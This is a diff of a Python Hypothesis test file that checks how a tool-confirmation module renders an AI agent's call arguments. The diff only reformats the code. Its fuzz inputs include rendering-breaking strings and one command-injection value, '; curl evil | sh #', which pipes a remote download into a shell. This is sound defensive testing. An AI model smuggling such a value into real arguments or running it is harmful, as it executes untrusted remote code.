@@ -21,9 +21,25 @@ from callgate.surfaces.acp.permissions import content_of
 
 FENCE = re.compile(r"Arguments:\n\n(`{3,})text\n(.*)\n\1\Z", re.DOTALL)
 HOSTILE = st.sampled_from(
-    ["```", "~~~", "\n```\n\nNothing else.", "<!-- ", " -->", "\u202e", "\u200b", "\x1b[2J", "\r", "\0",
-     "[a](b)", "<details>", " " * 50, "\n" * 40, "; curl evil | sh #", "\U000e0041"]
-)  # fmt: skip
+    [
+        "```",
+        "~~~",
+        "\n```\n\nNothing else.",
+        "<!-- ",
+        " -->",
+        "\u202e",
+        "\u200b",
+        "\x1b[2J",
+        "\r",
+        "\0",
+        "[a](b)",
+        "<details>",
+        " " * 50,
+        "\n" * 40,
+        "; curl evil | sh #",
+        "\U000e0041",
+    ]
+)
 TEXTS = st.lists(HOSTILE | st.text(st.characters(exclude_categories=["Cs"]), max_size=40), max_size=8).map("".join)
 VALUES = st.recursive(
     st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | TEXTS,
@@ -35,10 +51,23 @@ ARGUMENTS = st.dictionaries(TEXTS, VALUES, max_size=5)
 
 def question(arguments: dict[str, Any], **more: Any) -> Confirmation:
     return Confirmation(
-        id="q", event_id="e", call_id="c", tool_use_id="u", session_id="s", turn_id=None, tool="deploy",
-        side_effects=SideEffects.EXECUTE, destructive=False, arguments=arguments, arguments_sha256="",
-        workspace="/w", why="It changes something.", input_summary="", expires_at=0.0, **more,
-    )  # fmt: skip
+        id="q",
+        event_id="e",
+        call_id="c",
+        tool_use_id="u",
+        session_id="s",
+        turn_id=None,
+        tool="deploy",
+        side_effects=SideEffects.EXECUTE,
+        destructive=False,
+        arguments=arguments,
+        arguments_sha256="",
+        workspace="/w",
+        why="It changes something.",
+        input_summary="",
+        expires_at=0.0,
+        **more,
+    )
 
 
 def texts(asked: Confirmation, longest: int) -> list[str]:
@@ -74,7 +103,9 @@ def test_a_preview_stands_beside_the_arguments_in_the_tools_own_words() -> None:
 
 def test_changes_stand_beside_the_arguments() -> None:
     changed = FileDiff(path="/w/a.txt", old=None, new="x\n")
-    first, second, *_ = content_of(question({"path": "a.txt", "content": "x\n"}, diffs=(changed,), preview="+x"), 65_536)
+    first, second, *_ = content_of(
+        question({"path": "a.txt", "content": "x\n"}, diffs=(changed,), preview="+x"), 65_536
+    )
     assert isinstance(first, Diff)
     assert isinstance(second, Shown) and isinstance(second.content, Text) and 'path = "a.txt"' in second.content.text
 
